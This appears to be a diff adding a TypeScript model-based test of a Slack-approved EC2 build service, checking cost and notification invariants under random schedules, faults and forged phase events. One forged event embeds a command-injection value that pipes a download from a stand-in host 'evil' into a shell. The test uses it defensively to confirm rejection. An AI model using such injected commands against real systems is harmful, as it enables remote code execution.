@@ -1,0 +1,409 @@
+import fc from 'fast-check';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Build, InstanceState } from '../../core/build';
+import { isActive, isFinal, isRunning } from '../../core/build';
+import { LAUNCH_SETTLE_MS, finalSince } from '../../core/slot-holding';
+import { artifactKey, artifactVersion, logKey } from '../../core/artifact-layout';
+import { APPROVER, REQUESTER } from '../../stand-ins/slack-api';
+import { buildPhase, ec2StateChange, scheduled, SHA256 } from '../events/event-fixtures';
+import type { ModelWorld } from './world';
+import { SECOND_APPROVER, envelopeOf, startModelWorld } from './world';
+
+// The model-based test of docs/design.md "Threat model" and "Delivery semantics": random
+// schedules of people (requests, approvals by several users at once, denials, cancels, Extend
+// clicks), machines (EC2 state changes, duplicated, late and reordered; phases honest and
+// forged), faults (Slack failures and lost answers, DynamoDB lost answers) and watchdog runs with
+// the clock moving, over the real handlers, dynalite and the stand-ins. After every step the
+// invariants are checked against the stand-ins' own records: EC2's machines, Slack's messages,
+// SNS's mails, and the table.
+//
+// MODEL_RUNS (default 100) and MODEL_SEED replay or lengthen it: a failure prints its seed and path.
+
+const RUNS = Number(process.env.MODEL_RUNS ?? 100);
+const SEED = process.env.MODEL_SEED === undefined ? undefined : Number(process.env.MODEL_SEED);
+const MAX = 1;
+/** The watchdog's orphan grace (15 min) plus one run. */
+const ORPHAN_GRACE_MS = 16 * 60_000;
+const LIVE: readonly InstanceState[] = ['pending', 'running', 'stopping', 'stopped'];
+
+interface Delivery {
+  kind: 'launch' | 'cancel' | 'ec2' | 'phase';
+  event: unknown;
+}
+
+/** What the test keeps beside the real system: which events wait for (re)delivery. */
+interface Real {
+  w: ModelWorld;
+  pending: Delivery[];
+  /** Bot events already turned into deliveries. */
+  busSeen: number;
+  /** EC2 states already turned into state-change events. */
+  ec2Seen: Map<string, InstanceState>;
+  /** When each machine was first seen no longer live (by the handlers' clock). */
+  goneAt: Map<string, number>;
+}
+
+type Model = Record<string, never>;
+
+async function buildAt(real: Real, index: number): Promise<Build | undefined> {
+  const builds = (await real.w.builds()).sort((a, b) => (a.CreatedAt < b.CreatedAt ? -1 : 1));
+  return builds.length === 0 ? undefined : builds[index % builds.length];
+}
+
+/** The bot's puts and EC2's state changes since the last step, as deliveries waiting. */
+function collect(real: Real): void {
+  const entries = real.w.bus.entries;
+  for (const e of entries.slice(real.busSeen)) real.pending.push({ kind: e.detailType === 'Build Approved' ? 'launch' : 'cancel', event: envelopeOf(e) });
+  real.busSeen = entries.length;
+  for (const i of real.w.events.ec2.instances.values()) {
+    if (real.ec2Seen.get(i.id) === i.state) continue;
+    real.ec2Seen.set(i.id, i.state);
+    if (!LIVE.includes(i.state) && !real.goneAt.has(i.id)) real.goneAt.set(i.id, real.w.events.clock.now().getTime());
+    real.pending.push({ kind: 'ec2', event: ec2StateChange(i.id, i.state, real.w.events.clock.now().toISOString()) });
+  }
+}
+
+async function deliver(real: Real, d: Delivery): Promise<boolean> {
+  const h = real.w.handlers;
+  const run = { launch: h.launch, cancel: h.cancel, ec2: h.instanceState, phase: h.buildPhase }[d.kind];
+  try {
+    await run(d.event);
+    return true;
+  } catch {
+    // A transient failure: EventBridge delivers it again later.
+    return false;
+  }
+}
+
+// ---- commands -------------------------------------------------------------------------------
+
+/** Each step acts, then the new deliveries are collected and every invariant is checked. */
+abstract class Step implements fc.AsyncCommand<Model, Real> {
+  check(): boolean {
+    return true;
+  }
+  async run(_m: Model, real: Real): Promise<void> {
+    await this.act(real);
+    collect(real);
+    await checkInvariants(real, this instanceof Watchdog);
+  }
+  abstract act(real: Real): Promise<void>;
+  abstract toString(): string;
+}
+
+class Request extends Step {
+  constructor(readonly branch: string) {
+    super();
+  }
+  async act(real: Real) {
+    await real.w.command(`${this.branch} abc1234`, REQUESTER);
+  }
+  toString() {
+    return `request(${this.branch})`;
+  }
+}
+
+class Click extends Step {
+  constructor(
+    readonly action: 'approve_build' | 'deny_build' | 'cancel_build' | 'extend_build',
+    readonly build: number,
+    readonly users: readonly string[],
+  ) {
+    super();
+  }
+  async act(real: Real) {
+    const b = await buildAt(real, this.build);
+    if (!b) return;
+    await Promise.all(this.users.map((u) => real.w.click(this.action, b.BuildID, u)));
+  }
+  toString() {
+    return `${this.action}(#${this.build} by ${this.users.join('+')})`;
+  }
+}
+
+/**
+ * Several approvals at once while the launch runs: every table call of every handler waits for
+ * fc.scheduler, which picks their order, and `Build Approved` is delivered the moment it is put.
+ */
+class ApproveDuringLaunch extends Step {
+  constructor(
+    readonly build: number,
+    readonly users: readonly string[],
+    readonly s: fc.Scheduler,
+  ) {
+    super();
+  }
+  async act(real: Real) {
+    const b = await buildAt(real, this.build);
+    if (!b) return;
+    const launches: Promise<unknown>[] = [];
+    real.w.gate.before = (call) => this.s.schedule(Promise.resolve(), call);
+    real.w.gate.onApproved = (event) => launches.push(real.w.handlers.launch(event).catch(() => undefined));
+    try {
+      const clicks = Promise.all(this.users.map((u) => real.w.click('approve_build', b.BuildID, u)));
+      await this.s.waitFor(clicks);
+      await this.s.waitFor(real.w.bus.idle().then(() => Promise.all(launches)));
+    } finally {
+      delete real.w.gate.before;
+      delete real.w.gate.onApproved;
+    }
+  }
+  toString() {
+    return `approve during launch(#${this.build} by ${this.users.join('+')}) ${this.s.report().length} scheduled calls`;
+  }
+}
+
+class Deliver extends Step {
+  constructor(
+    readonly index: number,
+    readonly keepCopy: boolean,
+  ) {
+    super();
+  }
+  async act(real: Real) {
+    if (real.pending.length === 0) return;
+    const i = this.index % real.pending.length;
+    const d = real.pending[i]!;
+    const ok = await deliver(real, d);
+    // At least once: delivered again until it succeeds, and sometimes once more besides.
+    if (ok && !this.keepCopy) real.pending.splice(i, 1);
+  }
+  toString() {
+    return `deliver(${this.index}${this.keepCopy ? ', again later' : ''})`;
+  }
+}
+
+/** EC2 moves a machine on: pending → running, shutting-down → terminated, or the runner powers it off. */
+class Machine extends Step {
+  constructor(
+    readonly index: number,
+    readonly powerOff: boolean,
+  ) {
+    super();
+  }
+  async act(real: Real) {
+    const machines = [...real.w.events.ec2.instances.values()];
+    if (machines.length === 0) return;
+    const m = machines[this.index % machines.length]!;
+    if (this.powerOff && LIVE.includes(m.state)) m.state = 'shutting-down';
+    else if (m.state === 'pending') m.state = 'running';
+    else if (m.state === 'shutting-down') m.state = 'terminated';
+  }
+  toString() {
+    return `machine(${this.index}, ${this.powerOff ? 'power off' : 'advance'})`;
+  }
+}
+
+type Forgery = 'none' | 'wrong-token' | 'other-instance' | 'future-time' | 'foreign-key';
+
+class Phase extends Step {
+  constructor(
+    readonly build: number,
+    readonly phase: 'cloning' | 'building' | 'uploading' | 'completed' | 'failed',
+    readonly forgery: Forgery,
+  ) {
+    super();
+  }
+  async act(real: Real) {
+    const b = await buildAt(real, this.build);
+    if (!b?.InstanceID) return;
+    const now = real.w.events.clock.now().toISOString();
+    const version = artifactVersion(b.BuildBranch, b.BuildCommit) ?? '0.0.0-abc1234';
+    const honest = {
+      buildId: b.BuildID,
+      instanceId: b.InstanceID,
+      phase: this.phase,
+      at: now,
+      ...(this.phase === 'completed'
+        ? { artifact: { bucket: real.w.deps.config.artifactBucket, key: artifactKey(b.BuildID, version), sha256: SHA256, bytes: 1024 }, logKey: logKey(b.BuildID) }
+        : {}),
+      ...(this.phase === 'failed' ? { message: 'packer failed', logKey: logKey(b.BuildID) } : {}),
+    };
+    const forged =
+      this.forgery === 'wrong-token'
+        ? { ...honest, eventToken: 'f'.repeat(64) }
+        : this.forgery === 'other-instance'
+          ? { ...honest, instanceId: 'i-0badbadbadbadbad0' }
+          : this.forgery === 'foreign-key' && this.phase === 'completed'
+            ? { ...honest, artifact: { ...honest.artifact!, key: 'x.ova . ; curl evil | sh ; echo' } }
+            : honest;
+    const event = buildPhase(forged);
+    if (this.forgery === 'none' || this.forgery === 'future-time') {
+      const dated = this.forgery === 'future-time' ? buildPhase({ ...honest, at: '2036-01-01T00:00:00.000Z' }) : event;
+      real.pending.push({ kind: 'phase', event: dated });
+      return;
+    }
+    if (this.forgery === 'foreign-key' && this.phase !== 'completed') return;
+    // A forgery changes nothing: not the record, not Slack, not SNS.
+    const before = JSON.stringify(await real.w.events.get(b.BuildID));
+    const slackCalls = real.w.events.slack.calls.length;
+    const mails = real.w.events.published().length;
+    await real.w.handlers.buildPhase(event).catch(() => undefined);
+    expect(JSON.stringify(await real.w.events.get(b.BuildID)), `forged phase (${this.forgery}) changed the record`).toBe(before);
+    expect(real.w.events.slack.calls.length, 'forged phase reached Slack').toBe(slackCalls);
+    expect(real.w.events.published().length, 'forged phase sent mail').toBe(mails);
+  }
+  toString() {
+    return `phase(#${this.build} ${this.phase}${this.forgery === 'none' ? '' : `, ${this.forgery}`})`;
+  }
+}
+
+class Fault extends Step {
+  constructor(readonly kind: 'slack-fails' | 'slack-answer-lost' | 'dynamo-answers-lost') {
+    super();
+  }
+  async act(real: Real) {
+    if (this.kind === 'slack-fails') real.w.events.slack.failNext('chat.postMessage', 'internal_error');
+    else if (this.kind === 'slack-answer-lost') real.w.events.slack.loseAnswerOfNext('chat.postMessage');
+    else real.w.proxy.loseNext(2);
+  }
+  toString() {
+    return this.kind;
+  }
+}
+
+class Watchdog extends Step {
+  constructor(
+    readonly advanceMinutes: number,
+    readonly twoAtOnce: boolean,
+  ) {
+    super();
+  }
+  async act(real: Real) {
+    const clock = real.w.events.clock;
+    clock.set(new Date(clock.now().getTime() + this.advanceMinutes * 60_000).toISOString());
+    const run = () => real.w.handlers.watchdog(scheduled(clock.now().toISOString())).catch(() => undefined);
+    await (this.twoAtOnce ? Promise.all([run(), run()]) : run());
+  }
+  toString() {
+    return `watchdog(+${this.advanceMinutes} min${this.twoAtOnce ? ', two at once' : ''})`;
+  }
+}
+
+// ---- invariants -----------------------------------------------------------------------------
+
+async function checkInvariants(real: Real, afterWatchdog: boolean): Promise<void> {
+  const w = real.w;
+  const now = w.events.clock.now().getTime();
+  const builds = await w.builds();
+  const byId = new Map(builds.map((b) => [b.BuildID, b]));
+  const live = [...w.events.ec2.instances.values()].filter((i) => LIVE.includes(i.state));
+  const slots = new Set(await w.events.slots());
+
+  // (a) never more live metal machines than MAX_CONCURRENT_BUILDS
+  expect(live.length, `live machines: ${live.map((i) => `${i.id} of ${i.tags.BuildID}`).join(', ')}`).toBeLessThanOrEqual(MAX);
+
+  for (const m of live) {
+    const b = byId.get(m.tags.BuildID ?? '');
+    const accounted = b !== undefined && isRunning(b.Status) && b.InstanceID === m.id;
+    // (c) a live machine's build holds a slot
+    if (b) expect(slots.has(b.BuildID), `live machine ${m.id} of ${b.BuildID} (${b.Status}) has no slot`).toBe(true);
+    // (b) every live machine belongs to an active build, or is ended within the orphan grace
+    if (!accounted && afterWatchdog) {
+      const since = b ? (finalSince(b) ?? now) : Date.parse(m.launchTime);
+      expect(now - since, `machine ${m.id} of ${m.tags.BuildID} (${b?.Status ?? 'no record'}) outlived its grace`).toBeLessThanOrEqual(ORPHAN_GRACE_MS);
+    }
+  }
+
+  for (const b of builds) {
+    // (c) approved or with a machine not yet gone: holds a slot
+    if (b.Status === 'approved' || isRunning(b.Status))
+      expect(slots.has(b.BuildID), `${b.BuildID} is ${b.Status} without a slot`).toBe(true);
+    // (d) each status told in the thread at most once
+    const told = w.events.slack
+      .replies(b.Channel, b.ThreadTs)
+      .slice(1)
+      .map((m) => m.metadata?.event_payload?.status)
+      .filter((s): s is string => typeof s === 'string');
+    const repeated = told.filter((s, i) => told.indexOf(s) !== i);
+    expect(repeated, `${b.BuildID}: statuses told twice`).toEqual([]);
+    // (d) each notice mailed at most once (no crash between publish and mark is injected)
+    const subjects = w.events.published().filter((p) => p.Subject?.includes(b.BuildID)).map((p) => p.Subject);
+    const doubled = subjects.filter((s, i) => subjects.indexOf(s) !== i);
+    expect(doubled, `${b.BuildID}: mailed twice`).toEqual([]);
+  }
+
+  // (c) no slot outlives its reason once the watchdog had a chance
+  if (afterWatchdog)
+    for (const id of slots) {
+      const b = byId.get(id);
+      if (!b || !isFinal(b.Status)) continue;
+      const machines = [...w.events.ec2.instances.values()].filter((m) => m.tags.BuildID === id);
+      if (machines.some((m) => LIVE.includes(m.state))) continue;
+      // EC2's word that the machine is gone reaches the watchdog's next run at the latest.
+      const gone = Math.max(0, ...machines.map((m) => real.goneAt.get(m.id) ?? now));
+      const since = finalSince(b) ?? now;
+      if (now - gone >= 60_000 && now - since > LAUNCH_SETTLE_MS + 60_000)
+        expect.fail(`slot of ${id} (${b.Status}) kept ${Math.round((now - since) / 60_000)} min after it ended with no machine`);
+    }
+}
+
+/** Faults off, everything delivered, the clock run on: then every build is told its end. */
+async function settle(real: Real): Promise<void> {
+  real.w.proxy.losing = false;
+  for (let round = 0; round < 6; round++) {
+    collect(real);
+    for (let i = 0; i < 50 && real.pending.length > 0; i++) {
+      const d = real.pending.shift()!;
+      if (!(await deliver(real, d))) real.pending.push(d);
+      collect(real);
+    }
+    for (const m of real.w.events.ec2.instances.values()) {
+      if (m.state === 'pending') m.state = 'running';
+      if (m.state === 'shutting-down') m.state = 'terminated';
+    }
+    collect(real);
+    await new Watchdog(10, false).run({}, real);
+  }
+  for (const b of await real.w.builds()) {
+    if (isActive(b.Status)) continue;
+    expect(b.NotifiedStatus, `${b.BuildID} ended ${b.Status} but the thread was not told`).toBe(b.Status);
+  }
+}
+
+const steps: fc.Arbitrary<fc.AsyncCommand<Model, Real>>[] = [
+  fc.constantFrom('main', 'feature/x', 'v1.2.3').map((b) => new Request(b)),
+  fc
+    .tuple(fc.nat(3), fc.subarray([APPROVER, SECOND_APPROVER, APPROVER, SECOND_APPROVER], { minLength: 1 }))
+    .map(([b, users]) => new Click('approve_build', b, users)),
+  fc
+    .tuple(fc.nat(3), fc.subarray([APPROVER, SECOND_APPROVER, APPROVER, SECOND_APPROVER, APPROVER], { minLength: 2 }), fc.scheduler())
+    .map(([b, users, s]) => new ApproveDuringLaunch(b, users, s)),
+  fc.nat(3).map((b) => new Click('deny_build', b, [APPROVER])),
+  fc.tuple(fc.nat(3), fc.constantFrom(REQUESTER, APPROVER)).map(([b, u]) => new Click('cancel_build', b, [u])),
+  fc.tuple(fc.nat(3), fc.constantFrom(1, 2)).map(([b, n]) => new Click('extend_build', b, n === 1 ? [APPROVER] : [APPROVER, SECOND_APPROVER])),
+  fc.tuple(fc.nat(20), fc.boolean()).map(([i, again]) => new Deliver(i, again)),
+  fc.tuple(fc.nat(20), fc.boolean()).map(([i, again]) => new Deliver(i, again)),
+  fc.tuple(fc.nat(5), fc.boolean()).map(([i, off]) => new Machine(i, off)),
+  fc
+    .tuple(
+      fc.nat(3),
+      fc.constantFrom('cloning', 'building', 'uploading', 'completed', 'failed' as const),
+      fc.constantFrom<Forgery>('none', 'none', 'wrong-token', 'other-instance', 'future-time', 'foreign-key'),
+    )
+    .map(([b, p, f]) => new Phase(b, p, f)),
+  fc.constantFrom('slack-fails', 'slack-answer-lost', 'dynamo-answers-lost' as const).map((k) => new Fault(k)),
+  fc.tuple(fc.constantFrom(1, 2, 5, 12, 40), fc.boolean()).map(([m, two]) => new Watchdog(m, two)),
+];
+
+describe('money safety, model-based', () => {
+  let w: ModelWorld;
+  beforeAll(async () => {
+    w = await startModelWorld();
+  });
+  afterAll(async () => {
+    await w.close();
+  });
+
+  it(`holds its invariants over ${RUNS} random schedules`, async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.commands(steps, { maxCommands: 18 }), async (cmds) => {
+        await w.reset();
+        const real: Real = { w, pending: [], busSeen: 0, ec2Seen: new Map(), goneAt: new Map() };
+        await fc.asyncModelRun(() => ({ model: {}, real }), cmds);
+        await settle(real);
+      }),
+      { numRuns: RUNS, ...(SEED !== undefined ? { seed: SEED } : {}), ...(process.env.MODEL_PATH ? { path: process.env.MODEL_PATH } : {}), verbose: 1 },
+    );
+  }, 600_000);
+});
